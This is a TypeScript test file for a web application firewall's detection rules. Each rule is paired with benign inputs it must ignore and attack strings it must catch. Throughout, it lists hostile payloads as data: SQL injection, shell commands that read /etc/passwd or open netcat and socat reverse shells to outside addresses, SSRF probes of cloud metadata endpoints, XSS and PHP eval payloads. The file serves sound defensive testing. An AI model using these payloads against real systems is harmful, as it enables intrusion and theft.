/**
 * Rule-level cases: for each rule whose pattern or score was narrowed to attack syntax, a legitimate value it
 * must leave alone and an attack it must still catch. Values go in as a query parameter (decoded like the wire)
 * unless the case says otherwise; `fires` looks at one rule id, so other rules cannot mask a regression.
 */
import { describe, expect, it } from "vitest";
import { DEFAULT_WAF_CONFIG, inspectRequest, type WafInput, type WafResult } from "./index";

const query = (value: string, name = "q"): WafInput => ({
  method: "GET",
  path: "/get",
  rawQuery: `${encodeURIComponent(name)}=${encodeURIComponent(value)}`,
  headers: { host: "localhost", "user-agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0" },
});

const inspect = (input: WafInput): WafResult => inspectRequest(input, DEFAULT_WAF_CONFIG);
const fires = (ruleId: number, input: WafInput): boolean => inspect(input).matched.some((m) => m.ruleId === ruleId);

interface Case {
  rule: number;
  why: string;
  benign: string[];
  attack: string[];
}

const CASES: Case[] = [
  {
    rule: 5011,
    why: "an element call needs an index: `$a[]` is PHP append syntax and cannot be called",
    benign: ["$a[]()", "$list[ ]()"],
    attack: ["$__[@o](6)", "$_aB_4c[5]['d'] /*x*/ (17)"],
  },
  {
    rule: 7004,
    why: "BENCHMARK delays only as a complete two-argument call",
    benign: ["/benchmark(2999/**/999,md5(/", "benchmark results (2024)"],
    attack: ["benchmark(3000000,MD5(4)", "1 and benchmark(5000000, sha1('x'))"],
  },
  {
    rule: 4017,
    why: "a variable runs as a command only when the payload sets it, or when a command follows spacer variables",
    benign: [";$a $b $c", "price;$5 per sample"],
    attack: ["a=/etc&&b=/passwd&&c=cat&&$c $a$b", "a=nc&&$a -nlvp 555", ";$u cat /etc/hosts"],
  },
  {
    rule: 7016,
    why: "with a space before the parenthesis, prose asides that read on are not SQL calls",
    benign: ["samtools version (1.17) was used", "repeat (3 times) before loading", "leave a space (optional) here"],
    attack: ["database (", "1 and sleep (5)", "version()", "user_name ('x')"],
  },
  {
    rule: 7014,
    why: "after a number and a boolean operator, a condition must follow",
    benign: ["1 or 2", "3 and up", "2 or more replicates"],
    attack: ["1 or 1=1", "9999 or /*+hint*/ true", "1 and sleep(5)", "0 or x like 'a%'"],
  },
  {
    rule: 5508,
    why: "a data: URL has RFC 2397 syntax: no space after the colon",
    benign: ["data: 1,2,3", "data: raw, unfiltered"],
    attack: ["data:text/plain;base64,SSBsb3ZlIFBIUAo=", "data:,hello", "data:text/html;charset=utf-8,<b>x</b>"],
  },
  {
    rule: 4007,
    why: "`net use`/`net user` are English; the Windows command has a switch, UNC path or wildcard, or stands alone",
    benign: ["net use of land in the region", "net user growth was 3%"],
    attack: ["net user hacker P@ss /add", "net use \\\\10.0.0.5\\c$", "net user", "net localgroup administrators"],
  },
  {
    rule: 4016,
    why: "GOTO and ECHO are batch syntax only as commands, not as words in a sentence",
    benign: ["goto line 5 in the editor", "echo on the hills"],
    attack: ["goto :eof", "@echo off", "if exist c:\\boot.ini goto end", "& echo off"],
  },
  {
    rule: 6004,
    why: "elements inert without attributes (svg, meta, base, link, set, template) count only with attributes",
    benign: ["usage: cyanea digest <file> --enzymes <set>", "see the <template> section", "<meta> data for each run"],
    attack: ["<meta http-equiv=\"refresh\" content=\"0; url=http://evil/\">", "<BASE dsfds HREF / =", "<iframe>", "<svg/x=1>"],
  },
  {
    rule: 6006,
    why: "CSS expression() only as a property value",
    benign: ["gene expression (TPM) per sample", "differential expression (DESeq2)"],
    attack: ["<div style=\"width:expression(alert(1))\">", "x{width: expression(alert(1))}"],
  },
  {
    rule: 7010,
    why: "a comment sign or keyword closed by a quote of its own is a quoted literal",
    benign: ["type a '#' sign", "the '--' dash", "the \"union\" jack"],
    attack: ["admin'#", "admin' -- x", "' or 1=1", "x'/*"],
  },
  {
    rule: 7018,
    why: "a keyword quoted on both sides is a word, not the rest of a query",
    benign: ["press the \"select\" button"],
    attack: ["x' union select 1", "1' order by 3", "a\" waitfor delay '0:0:5'"],
  },
  {
    rule: 3101,
    why: "a remote include from a raw IP needs the address to be the whole host",
    benign: ["http://1.2.3.4.nip.example.com/file.txt"],
    attack: ["http://10.1.2.3/shell.txt", "https://203.0.113.9:8080/x.php?", "http://user@198.51.100.7/a"],
  },
  {
    rule: 5503,
    why: "internal names and addresses must end the host: public domains may start with them",
    benign: ["http://localhost.example.com/", "http://192.168.example.org/", "https://metadata.example.com/v1"],
    attack: ["http://localhost:3000/admin", "http://127.1/", "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/", "http://10.0.0.5/", "http://[::1]/"],
  },
  {
    rule: 5505,
    why: "an infinite loop has a constant condition",
    benign: ["while(loading) show a spinner", "while (!done) poll()"],
    attack: ["while(true);", "while(!'');", "while(+Infinity);", "while(!!{});", "while(this)", "while(!undefined)"],
  },
  {
    rule: 1017,
    why: "an injected header needs its colon; a line of text starting with a header's name is not one",
    benign: ["Sample origin:\nLocation of the farm is unknown", "line one\nHost plant: Arabidopsis"],
    attack: ["foobar\r\nContent-Length: 0", "\r\nRemote-addr: foo.bar.com", "x\r\nSet-Cookie: a=b", "x\r\nHTTP/1.1 200 OK"],
  },
  {
    rule: 5003,
    why: "with a space before the parenthesis a PHP call needs a PHP-shaped argument",
    benign: ["see the file (see below)", "system (s) biology", "copy (2 of 3) attached"],
    attack: ["system('id')", "exec #c\n (blah)", "assert_options (\n\n)", "eval ($_POST['x']);", "file_get_contents(\"/etc/passwd\")"],
  },
  {
    rule: 7004,
    why: "with a space before the parenthesis a SQL delay or file call needs a SQL-shaped argument",
    benign: ["the sleep (see below) section", "a polygon (five sides) drawn"],
    attack: ["1 and sleep (5)", "sleep(5)", "load_file ('/etc/passwd')", "pg_sleep (10)--"],
  },
  {
    rule: 4004,
    why: "backticks pair up: only what an opening backtick encloses is a command substitution",
    benign: ["set `a` and `b` to zero", "`x` or `y` but not both"],
    attack: ["`cat /etc/passwd`", "a `id -u` b", "x; `/bin/ls`", "$(whoami)"],
  },
  {
    rule: 5014,
    why: "dl() only as a call: dl alone is a unit",
    benign: ["dl", "mg/dl"],
    attack: ["dl('evil.so')", "phpinfo", "shell_exec=(bla)"],
  },
  {
    rule: 3104,
    why: "an FTP URL to a named host is public data, like an https one; the SSRF-prone schemes stay",
    benign: ["ftp://ftp.ensembl.org/pub/release-110/fasta/", "ftp://ftp.ncbi.nlm.nih.gov/genomes/"],
    attack: ["gopher://127.0.0.1:6379/_INFO", "dict://internal:11211/stats", "\\\\attacker\\share", "tftp://evil/x"],
  },
  {
    rule: 5510,
    why: "an internal host is an SSRF target when it is used as an address (port or path), not as a bare word",
    benign: ["localhost", "metadata", "Runs on localhost"],
    attack: ["localhost/", "LOCALHOST:8080", "169.254.169.254/latest/meta-data/"],
  },
  {
    rule: 3101,
    why: "remote includes from raw addresses: IPv6 literals with or without brackets, not host names with ports",
    benign: ["https://example.com:8443/data.fasta", "https://ftp.ncbi.nlm.nih.gov/genomes/", "10:20:30"],
    attack: ["https://2001:41d0:701:1100::29c8/gecko.php", "http://[::1]/x.php", "ftp://192.0.2.7/shell.txt"],
  },
  {
    rule: 7018,
    why: "a quote followed by UNION is injection only with the SELECT it unions",
    benign: ["9'union all/bar", "the 'union' of both sets"],
    attack: ["' union select password from users", "x')) UNION ALL SELECT NULL,NULL--", "1' union distinct (select 1)"],
  },
  {
    rule: 3008,
    why: "a system path counts from the root or a word start; a project folder named etc does not",
    benign: ["see results/etc/summary.tsv", "data/var/log2_values.tsv", "genes, proteins, etc.", "user.profile settings"],
    attack: ["/etc/shadow-", "file=../../etc/nginx/nginx.conf", "/proc/1/cmdline", "C:\\Windows\\system32\\config\\SAM", "~/.bash_history"],
  },
  {
    rule: 3009,
    why: "a dot-dot segment counts here only when a dot or separator is encoded; plain ../ is 3001/3002's",
    benign: ["../data/raw", "v1.2.3/notes", "0x2e is a full stop"],
    attack: ["0x2f0x2e0x2e0x2f", "/.%252e/", "\\..%u2216", "/%uff0e%uff0e/"],
  },
  {
    rule: 3105,
    why: "a remote-inclusion probe is one token: a scheme name or URL ended by `?`",
    benign: ["which file formats are supported?", "https is required?", "file"],
    attack: ["ftp?", "https://203.0.113.9/x.txt?", "file:x??"],
  },
  {
    rule: 4002,
    why: "a word-like command after a separator counts with a Windows drive path or %VAR% argument too",
    benign: ["copy of the data; type 2 diabetes"],
    attack: ["& type c:\\boot.ini", "| dir C:\\Users", "; type %SYSTEMROOT%"],
  },
  {
    rule: 4016,
    why: "FOR takes options and a set with nested parentheses; IF compares quoted operands with spaces",
    benign: ["for each sample in (A, B) do the PCR", "if the p value == 0.05 rerun"],
    attack: ["for/d %x in (*) do rd %x", "FOR /F \"skip=1 tokens=2\" %i IN ('wmic os get (x)') DO set v=%i", "if \"%~a b%\"==\"c d\" exit"],
  },
  {
    rule: 4024,
    why: "a command-only name opening the value counts with shell-shaped arguments, not with words",
    benign: ["curl up to 3 reads per locus", "ssh keys are rotated monthly", "docker image for the pipeline", "pip install biopython"],
    attack: ["ansible-playbook deploy.yml", "visudo\n", "chmod 4755 /tmp/x", "kubectl get secrets -A", "socat tcp:203.0.113.5:4444 exec:sh"],
  },
  {
    rule: 4025,
    why: "tilde and history expansion count inside a command line, not as bare values or in prose",
    benign: ["~-", "!!", "ΔG (~-5 kcal/mol)", "wow!! 5 reads"],
    attack: ["id;~+2", "ls|~-", "x; !-1", "$((0))ls -la"],
  },
  {
    rule: 4026,
    why: "empty quotes or substitutions glued inside a word are shell evasion; markdown code spans are not",
    benign: ["use ``code`` here", "He said \"\"hello\"\"", "don't"],
    attack: ["w\"\"h\"\"oami", "c''at /etc/hosts", "who$()ami", "uname${} -a", "wh`x`oami"],
  },
  {
    rule: 4027,
    why: "sqlite3 dot-commands count after a statement separator or line break",
    benign: [".shell is a dot-command", "version 2.dump"],
    attack: ["x;.shell id", "1\n.system cat /etc/hosts", "a; .dump", "1;.\\\"system id"],
  },
  {
    rule: 4028,
    why: "process substitution needs a command inside; arithmetic `$[…]` is shell-only",
    benign: ["values >(mean) were kept", "p >(0.05)"],
    attack: [">(nc 203.0.113.5 80)", "<(cat /etc/hosts)", "echo $[7*7]"],
  },
  {
    rule: 4029,
    why: "sleep probes, ps, history, VAR=x cmd, echo > file and loops count after a shell separator only",
    benign: ["Incubate; sleep 5 min", "history of the strain; see notes", "a=1; b=2; c=3"],
    attack: ["x; sleep 10", "| ps aux", "&& history", ";IFS=, cat /etc/hosts", "; echo x >> /var/www/a.php", "; for f in *; do cat $f; done"],
  },
  {
    rule: 5016,
    why: "a PHP-only dangerous function called, or any callee with a comment before its parenthesis",
    benign: ["the file #1 (see)", "json_encode($x)", "A loaded gun (unserialized)", "subprocess.popen(cmd)"],
    attack: ["shell_exec ('id')", "file_put_contents/**/('x.php', $d)", "system //c\n('id')", "call_user_func #x\n ('system', 'id')"],
  },
  {
    rule: 5018,
    why: "[php] blocks run their body; a `<?` processing instruction is not PHP",
    benign: ["<?xml-stylesheet href='a.xsl'?>", "[phpBB] forum"],
    attack: ["[php]echo 1;[/php]", "[ \\php ]"],
  },
  {
    rule: 5019,
    why: "a variable called as a function; R's df$col and PHP's $a[] append are not calls",
    benign: ["df$value(1)", "$a[]()", "$5 (per sample)", "$HOME (default)"],
    attack: ["$f('id')", "$cb(\"x\")", "$x[0]('ls')", "$_q #c\n[1] /**/ ('id')", "$HTTP_POST_VARS", "$argv"],
  },
  {
    rule: 5020,
    why: "PHP ini directives set as name=value; generic setting names are not",
    benign: ["user_agent=curl", "default_charset=utf-8", "cgi bin"],
    attack: ["cgi.fix_pathinfo=1", "allow_call_time_pass_reference = On", "mysql.allow_local_infile=1"],
  },
  {
    rule: 5516,
    why: "Node.js internals by property or bracket access and synchronous fs calls; prose citations are not",
    benign: ["Process [12] described above", "main [2] results", "console output was saved", "require.js"],
    attack: ["require.cache", "global['process']", "readFileSync('/etc/hosts')", "module.exports = x", "process.mainModule"],
  },
  {
    rule: 5517,
    why: "a base64 token is decoded; DNA, protein and lower-case identifiers are not base64 payloads",
    benign: ["ACGTACGTACGTACGTACGT", "MKTAYIAKQRQISFVKSHFSRQ", "construct_14_v2_backup"],
    attack: [btoa("_$$ND_FUNC$$_function(){}"), btoa("require('child_process').exec('id')"), btoa('{"__proto__":{"x":1}}')],
  },
  {
    rule: 6016,
    why: "tag names spelled out letter by letter, cross-window location, comment/CDATA breakout",
    benign: ["a < b c d", "parent location unknown", "location.reload"],
    attack: ["< i m g src=x>", "<s c r i p t>", "top.location='//x'", "<!--", "<![CDATA[", "v b s c r i p t:msgbox(1)"],
  },
  {
    rule: 6017,
    why: "a DOM event name starting the value or after a closing quote; clinical `onset=` is not one",
    benign: ["onset=5 days", "onboarding='done'", "'done' onward"],
    attack: ["onfocus=alert(1)", "\" onpointerenter=x()", "' ontoggle=prompt()"],
  },
  {
    rule: 6018,
    why: "markup behind JavaScript escapes is markup",
    benign: ["\\x41\\x42 are hex escapes"],
    attack: ["\\x3cscript\\x3e", "\\u003cimg src=x onerror=alert(1)\\u003e", "java\\u0073cript:alert(1)"],
  },
  {
    rule: 6019,
    why: "backslash-escaped CSS keywords read as the plain ones",
    benign: ["import the data; bind the antibody"],
    attack: ["@im\\port url(//x/a.css)", "-m\\oz-binding: url(x.xml#y)"],
  },
  {
    rule: 7024,
    why: "SQL-only functions called bare; a space before `(` needs a SQL-shaped argument",
    benign: ["json_normalize(records)", "df.to_json(x)", "the likelihood (the model)", "pg_ subset (see table)"],
    attack: ["extractvalue(1,concat(0x7e,version()))", "group_concat(table_name)", "pg_read_file ('x')", "utc_timestamp()"],
  },
  {
    rule: 7025,
    why: "catalog tables, charset switches, UNION…SELECT with words between",
    benign: ["Union of gene sets selected for analysis", "I like (you)"],
    attack: ["x) like (y", "1 union distinctrow all select 2", "exec master..xp_dirtree", "alter table t convert to character set latin1", "select pg_sleep"],
  },
  {
    rule: 7026,
    why: "MongoDB operators where a plain value belongs",
    benign: ["$existsor", "price $5 or $6", "{\"gte\": 2015}"],
    attack: ["$ne", "a[$gt]", "{\"$where\": \"sleep(100)\"}", "x $jsonSchema y"],
  },
  {
    rule: 7027,
    why: "overflow probes are whole values",
    benign: ["42147483647", "chr4:2147483648-2147483700"],
    attack: ["-2147483649", "4294967296", "1e309"],
  },
  {
    rule: 7028,
    why: "a statement opening the value after `;`, or glued to a bracket",
    benign: ["Incubate; select the channel", "insert the tip; update the sheet"],
    attack: [";select 1", "; shutdown", "x;drop(users)", "a; delete[users"],
  },
  {
    rule: 7029,
    why: "a quoted JSON literal with a JSON operator; an arrow in prose is not",
    benign: ["Find your solution here -> link", "'{\"a\":1}' is JSON"],
    attack: ["'{\"a\":1}' ?| array['a']", "x = '[1,2]'::jsonb @> '[1]'", "data #>> '{a,b}'"],
  },
  {
    rule: 7030,
    why: "MySQL executable comments and comments splitting a keyword; path globs are not",
    benign: ["data/*/reads/*/x", "/* plain comment */"],
    attack: ["/*!50000 union*/", "sel/**/ect", "/*+ index(t) */"],
  },
  {
    rule: 7031,
    why: "a one-word value cut by quote-semicolon, or quote-operator-trailing comment",
    benign: ["Siobhán O'Brien", "bob's or alice's", "x'@email--", "5'-ACGT-3' #2"],
    attack: ["user@example.org';", "x' or 1--", "a\" ||x#", "y'-0--"],
  },
  {
    rule: 7032,
    why: "Oracle network/file packages and MSSQL OLE DB providers",
    benign: ["utility http client", "dbms table"],
    attack: ["utl_inaddr", "dbms_pipe", "openrowset('SQLOLEDB','x')"],
  },
  {
    rule: 9005,
    why: "the Java serialization magic in base64 at any of the three byte offsets",
    benign: ["KztA", "Cs7Q dataset"],
    attack: ["xKztAAUc", "Cs7QAFz4", "rO0ABXNy"],
  },
];

describe("rules match attack syntax, not the words it is made of", () => {
  for (const c of CASES) {
    describe(`rule ${c.rule}: ${c.why}`, () => {
      for (const v of c.benign) it(`leaves ${JSON.stringify(v)} alone`, () => expect(fires(c.rule, query(v))).toBe(false));
      for (const v of c.attack) it(`catches ${JSON.stringify(v)}`, () => expect(fires(c.rule, query(v))).toBe(true));
    });
  }
});

describe("rule 5511: ORM lookups traverse relations (as CRS at paranoia 2); one field with one operator is ordinary filtering", () => {
  it("leaves a single field lookup alone", () => {
    expect(fires(5511, query("p", "username__startswith"))).toBe(false);
    expect(fires(5511, query("2024", "created__year"))).toBe(false);
  });
  it("catches lookups through relations", () => {
    expect(fires(5511, query("p", "user__profile__city__startswith"))).toBe(true);
    expect(fires(5511, query("is_staff", "user__metadata__has_keys"))).toBe(true);
    expect(fires(5511, query("p", "created_by__departments__employees__user__username__startswith"))).toBe(true);
  });
});

describe("rule 8002: a session id set from a parameter counts in parameters and the path, not in the Referer", () => {
  const withReferer = (referer: string): WafInput => ({ ...query("x"), headers: { ...query("x").headers, referer } });
  it("leaves a Referer from a site that rewrites URLs alone", () => {
    expect(fires(8002, withReferer("https://example.com/shop;jsessionid=ABC123?item=4"))).toBe(false);
  });
  it("catches the same in a parameter and in the path", () => {
    expect(fires(8002, query("/login;jsessionid=ABC123"))).toBe(true);
    expect(fires(8002, { ...query("x"), path: "/app;jsessionid=ABC123" })).toBe(true);
    expect(fires(8002, query("<meta http-equiv=set-cookie content=\"a=b\">"))).toBe(true);
  });
});

describe("rule 3006: an editor backup has an extension before its `~`", () => {
  const path = (p: string): WafInput => ({ ...query("x"), path: p });
  it("leaves home-directory paths alone", () => {
    expect(fires(3006, path("/~"))).toBe(false);
    expect(fires(3006, path("/people/~"))).toBe(false);
  });
  it("catches backups and hidden files", () => {
    expect(fires(3006, path("/index.php~"))).toBe(true);
    expect(fires(3006, path("/config.yml~"))).toBe(true);
    expect(fires(3006, path("/.env"))).toBe(true);
  });
});

describe("rule 8001: session parameters are framework session names, not every `sid` or `session`", () => {
  it("leaves sample ids and sequencing sessions alone (no Referer, as from a script)", () => {
    expect(fires(8001, query("S001", "sid"))).toBe(false);
    expect(fires(8001, query("3", "session"))).toBe(false);
    expect(fires(8001, query("x", "lab_session"))).toBe(false);
  });
  it("catches session ids of web frameworks", () => {
    for (const name of ["jsessionid", "PHPSESSID", "_flask_session", "session_id", "user_session_token", "connect.sid"]) {
      expect(fires(8001, query("abc123", name))).toBe(true);
    }
  });
});

describe("rule 3007: scanner targets are build manifests, credentials and dumps, never an app route", () => {
  const path = (p: string): WafInput => ({ ...query("x"), path: p });
  it("leaves app routes and static assets alone", () => {
    for (const p of ["/api/datasets/config-study", "/_next/static/chunks/main.js", "/datasets/package-insert", "/api/pipelines/run"]) {
      expect(fires(3007, path(p))).toBe(false);
    }
  });
  it("catches manifests, credential files and database dumps", () => {
    for (const p of ["/package.json", "/app/config_prod.yml", "/backup/site.sql.gz", "/WEB-INF/web.xml", "/sites/default/settings.php"]) {
      expect(fires(3007, path(p))).toBe(true);
    }
  });
});

describe("rule 1038: browsers never send RFC 2965 cookie attributes back", () => {
  const cookie = (c: string): WafInput => ({ ...query("x"), headers: { ...query("x").headers, cookie: c } });
  it("leaves ordinary cookies (a `$` inside a value included) alone", () => {
    expect(fires(1038, cookie("theme=dark; price=$5"))).toBe(false);
  });
  it("catches $Version, $Path and $Domain", () => {
    expect(fires(1038, cookie("$Version=1; sid=\"a; b=c\""))).toBe(true);
    expect(fires(1038, cookie("a=b; $Path=/"))).toBe(true);
  });
});

describe("rule 1039: a Content-Type has registered parameters and tight spacing (RFC 9110 §8.3)", () => {
  const ct = (v: string): WafInput => ({
    method: "POST",
    path: "/api/datasets",
    rawQuery: "",
    headers: { host: "localhost", "content-type": v },
    body: { contentType: v, text: "{}" },
  });
  it("leaves what browsers and API clients send alone", () => {
    for (const v of [
      "application/json",
      "application/json; charset=UTF-8",
      "text/plain;charset=UTF-8",
      "multipart/form-data; boundary=----WebKitFormBoundaryx7Yz",
      'multipart/form-data; boundary="----=_Part_0_1"',
    ]) {
      expect(fires(1039, ct(v))).toBe(false);
    }
  });
  it("catches unknown parameters and loose spacing", () => {
    expect(fires(1039, ct("multipart/form-data; boundary=  abc"))).toBe(true);
    expect(fires(1039, ct("application/json; x-smuggle=1"))).toBe(true);
  });
});

describe("rule 5008: an uploaded script extension may carry any PHP version digits", () => {
  const upload = (name: string): WafInput => ({ ...query("x"), headers: { ...query("x").headers, "x-filename": name } });
  it("leaves data files alone", () => {
    expect(fires(5008, upload("reads_R1.fastq.gz"))).toBe(false);
  });
  it("catches php, php7, php56 and phpt", () => {
    for (const n of ["shell.php", "a.php7", "a.php56", "t.phpt"]) expect(fires(5008, upload(n))).toBe(true);
  });
});

describe("rule 8001: framework session cookie conventions as parameters", () => {
  it("leaves lab names alone", () => {
    expect(fires(8001, query("x", "lab_session"))).toBe(false);
    expect(fires(8001, query("x", "sess_count"))).toBe(false);
  });
  it("catches Rails, Drupal, WordPress, Moodle and signed-cookie names", () => {
    for (const name of ["_myapp_session", "SESS0123456789abcdef0123", "wordpress_logged_in_0123456789abcdef", "MoodleSession", "koa:sess"]) {
      expect(fires(8001, query("abc123", name))).toBe(true);
    }
  });
});
